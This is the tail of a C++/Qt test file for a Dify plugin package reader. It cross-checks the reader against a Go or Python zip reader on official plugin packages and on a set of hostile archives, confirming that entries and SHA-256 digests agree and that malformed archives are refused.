        const QString corpus = qEnvironmentVariable("STUDIO_CORPUS", QStringLiteral("/work/corpus"));
        for (const char *rel : {"dify-plugin-daemon/integration/plugin/testdata/langgenius-agent_0.0.14.difypkg",
                                "dify-plugin-daemon/cmd/commandline/signature/testdata/dummy_plugin.difypkg",
                                "dify-plugin-daemon/internal/core/plugin_manager/testdata/openai.difypkg"}) {
            const QString p = corpus + QLatin1Char('/') + QString::fromLatin1(rel);
            if (QFileInfo::exists(p)) {
                archives << p;
                mustAccept << p;
            }
        }
        // The official plugins, packaged by our packager (requirements.txt from a stand-in uv:
        // its contents do not matter here, and the test stays offline and fast).
        const QString official = corpus + QStringLiteral("/dify-official-plugins");
        int built = 0;
        if (QFileInfo(official).isDir()) {
            const QString uv = m_tmp.filePath(QStringLiteral("uv"));
            QVERIFY(writeFile(uv, "#!/bin/sh\necho 'dify_plugin>=0.9.0'\n"));
            QFile::setPermissions(uv, QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
            qputenv("UV_PATH", uv.toUtf8());
            const QString outDir = m_tmp.filePath(QStringLiteral("official"));
            for (const QString &kind : QDir(official).entryList(QDir::Dirs | QDir::NoDotAndDotDot, QDir::Name)) {
                for (const QString &name : QDir(official + QLatin1Char('/') + kind).entryList(QDir::Dirs | QDir::NoDotAndDotDot, QDir::Name)) {
                    const QString dir = official + QLatin1Char('/') + kind + QLatin1Char('/') + name;
                    if (!QFileInfo::exists(dir + QStringLiteral("/manifest.yaml")))
                        continue;
                    PackageOptions o;
                    o.outputPath = outDir + QLatin1Char('/') + kind + QLatin1Char('-') + name + QStringLiteral(".difypkg");
                    o.skipValidation = true;
                    o.followOutsideLinks = true; // models/gemini's .difyignore links to the repository's
                    auto r = packagePlugin(dir, o);
                    if (!r) {
                        qInfo("not packaged: %s: %s", qPrintable(dir), qPrintable(r.error().message.left(200)));
                        continue;
                    }
                    archives << r->outputPath;
                    mustAccept << r->outputPath;
                    ++built;
                }
            }
            qunsetenv("UV_PATH");
            QVERIFY2(built >= 200, qPrintable(QStringLiteral("only %1 official plugins packaged").arg(built)));
        } else {
            qInfo("no official plugins at %s: the differential test runs on the hostile set and the daemon's packages only", qPrintable(official));
        }

        // The reference reader: Go when it is installed, Python's zipfile otherwise.
        // (STUDIO_DIFF_REFERENCE=python forces the fallback, to test it where Go is installed.)
        QString goBin = QStandardPaths::findExecutable(QStringLiteral("go"));
        if (goBin.isEmpty() && QFileInfo(QStringLiteral("/usr/local/go/bin/go")).isExecutable())
            goBin = QStringLiteral("/usr/local/go/bin/go");
        if (qEnvironmentVariable("STUDIO_DIFF_REFERENCE") == QLatin1String("python"))
            goBin.clear();
        QString reader;
        QStringList readerArgs;
        QString referenceName;
        if (!goBin.isEmpty()) {
            const QString src = m_tmp.filePath(QStringLiteral("goreader/main.go"));
            QVERIFY(writeFile(src, kGoReader));
            QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
            env.insert(QStringLiteral("GOTOOLCHAIN"), QStringLiteral("local"));
            env.insert(QStringLiteral("GOFLAGS"), QStringLiteral("-buildvcs=false"));
            env.insert(QStringLiteral("GO111MODULE"), QStringLiteral("off"));
            if (!env.contains(QStringLiteral("GOCACHE")) && env.value(QStringLiteral("HOME")).isEmpty())
                env.insert(QStringLiteral("GOCACHE"), m_tmp.filePath(QStringLiteral("gocache")));
            reader = m_tmp.filePath(QStringLiteral("goreader/reader"));
            const Run build = runProgram(goBin, {QStringLiteral("build"), QStringLiteral("-o"), reader, src},
                                         m_tmp.filePath(QStringLiteral("goreader")), env, 300000);
            QVERIFY2(build.code == 0, QByteArray(build.out + build.err).constData());
            referenceName = QStringLiteral("Go archive/zip");
        } else {
            reader = QStringLiteral("python3");
            readerArgs << QStringLiteral("-c") << QString::fromUtf8(kPythonReader);
            referenceName = QStringLiteral("Python zipfile");
        }
        qInfo("differential reference: %s; %lld archives (%d official packages)", qPrintable(referenceName),
              static_cast<long long>(archives.size()), built);

        QHash<QString, QJsonObject> reference;
        for (qsizetype i = 0; i < archives.size(); i += 100) {
            const Run run = runProgram(reader, readerArgs + archives.mid(i, 100), QString(),
                                       QProcessEnvironment::systemEnvironment(), 300000);
            QVERIFY2(run.code == 0, run.err.constData());
            for (const QByteArray &line : run.out.split('\n')) {
                if (line.trimmed().isEmpty())
                    continue;
                const QJsonObject o = QJsonDocument::fromJson(line).object();
                reference.insert(o.value(QStringLiteral("path")).toString(), o);
            }
        }
        int agreed = 0, refused = 0;
        for (const QString &path : std::as_const(archives)) {
            QVERIFY2(reference.contains(path), qPrintable(path));
            const QJsonObject ref = reference.value(path);
            auto ours = PackageReader::open(path, ReadLimits::bundle());
            if (!ours) {
                QVERIFY2(!mustAccept.contains(path), qPrintable(path + QStringLiteral(": ") + ours.error().toString()));
                ++refused;
                continue;
            }
            QVERIFY2(!ref.contains(QStringLiteral("error")),
                     qPrintable(QStringLiteral("%1: we read it, %2 refuses it: %3")
                                    .arg(path, referenceName, ref.value(QStringLiteral("error")).toString())));
            const QJsonArray entries = ref.value(QStringLiteral("entries")).toArray();
            const QList<ZipEntry> &mine = (*ours)->entries();
            QCOMPARE(mine.size(), entries.size());
            for (qsizetype i = 0; i < mine.size(); ++i) {
                const QJsonObject e = entries.at(i).toObject();
                QCOMPARE(QString::fromLatin1(mine.at(i).name.toUtf8().toHex()), e.value(QStringLiteral("name_hex")).toString());
                QCOMPARE(mine.at(i).uncompressedSize, qint64(e.value(QStringLiteral("size")).toDouble()));
                QCOMPARE(QString::fromLatin1((*ours)->contentDigests().at(i).toHex()), e.value(QStringLiteral("sha256")).toString());
                auto bytes = (*ours)->read(mine.at(i).name);
                QVERIFY(bytes.hasValue());
                QCOMPARE(QString::fromLatin1(QCryptographicHash::hash(*bytes, QCryptographicHash::Sha256).toHex()),
                         e.value(QStringLiteral("sha256")).toString());
            }
            ++agreed;
        }
        qInfo("%d archives read alike by us and %s, %d refused by us", agreed, qPrintable(referenceName), refused);
        QVERIFY(agreed >= mustAccept.size());
        if (m_archives.size() > 10) // the whole test ran, not this slot alone
            QVERIFY(refused > 20);
    }
};

QTEST_GUILESS_MAIN(TestHostileArchives)
#include "tst_hostile_archives.moc"
